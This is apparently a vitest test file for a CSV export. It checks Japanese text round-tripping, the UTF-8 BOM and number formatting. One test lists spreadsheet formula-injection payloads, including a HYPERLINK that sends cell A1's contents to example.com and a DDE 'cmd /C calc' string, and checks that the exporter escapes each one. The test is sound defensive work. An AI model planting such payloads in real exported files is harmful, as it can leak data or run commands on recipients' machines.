import { parse } from "csv-parse/sync";
import { expect, test } from "vitest";
import { whole } from "./read-back.fixture";
import type { Column, Row } from "./sheet-rules";
import { writeCsv } from "./write-csv";

const COLUMNS: Column[] = [
  { title: "契約者", kind: "text" },
  { title: "件数", kind: "count" },
  { title: "所要時間", kind: "span" },
  { title: "日時", kind: "moment" },
];
const AT = "2026-05-11T15:00:00.000Z";
const csvOf = (rows: Row[], columns = COLUMNS) => whole(writeCsv({ name: "", columns, rows }));
const read = (bytes: Buffer): string[][] => parse(bytes, { bom: true, record_delimiter: "\r\n" });

test("Another program reads back what was written: Japanese, quotes, commas and line breaks are whole.", async () => {
  const names = ["髙﨑製パン㈱", 'いわゆる"銀座,店"', "一行目\r\n二行目", "", "〜①Ⅳ 𠮷野"];
  const bytes = await csvOf(names.map((name, index) => [name, index, 90_000, AT]));
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  expect(bytes.toString("utf8").replace(/\r\n/g, "")).not.toMatch(/[\r\n]$/);
  const [head, ...rows] = read(bytes);
  expect(head).toEqual(["契約者", "件数", "所要時間", "日時"]);
  expect(rows.map(([name]) => name)).toEqual(names);
  expect(rows[1]).toEqual([names[1], "1", "1.5", "2026-05-12 00:00:00"]);
});

test.each([
  '=HYPERLINK("http://example.com?x="&A1,"open")',
  "@SUM(A1:A9)",
  "+81-3-0000-0000",
  "-2+3+cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "＝1+1",
  "＠SUM(A1)",
])("%j stays text in a spreadsheet", async (text) => {
  const [, row] = read(await csvOf([[text, 1, null, null]]));
  expect(row?.[0]).toBe(`'${text}`);
});

test("Numbers stay numbers, a negative one too, and nothing is empty", async () => {
  const [, ...rows] = read(await csvOf([["a", -12, -90_000, null]]));
  expect(rows).toEqual([["a", "-12", "-1.5", ""]]);
});
